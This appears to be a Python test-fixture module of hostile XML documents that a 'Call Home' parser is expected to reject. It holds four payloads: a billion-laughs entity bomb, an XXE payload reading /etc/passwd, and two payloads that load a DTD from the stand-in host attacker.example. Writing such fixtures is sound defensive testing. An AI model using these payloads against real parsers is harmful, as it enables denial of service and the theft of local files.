"""Hostile XML documents the Call Home parsers must refuse (shared by the parser's and the SSM's tests)."""

from __future__ import annotations

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode() for i in range(1, 10)
    )
    + b']>\n<CallHome xmlns="urn:ssmlab:callhome:1" version="1" kind="request">'
    b'<Payload encoding="json">&lol9;</Payload></CallHome>'
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<CallHome xmlns="urn:ssmlab:callhome:1" version="1" kind="request"><Payload encoding="json">&xxe;</Payload>'
    b"</CallHome>"
)
PARAMETER_XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % pe SYSTEM "http://attacker.example/x.dtd"> %pe;]><r/>'
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>'
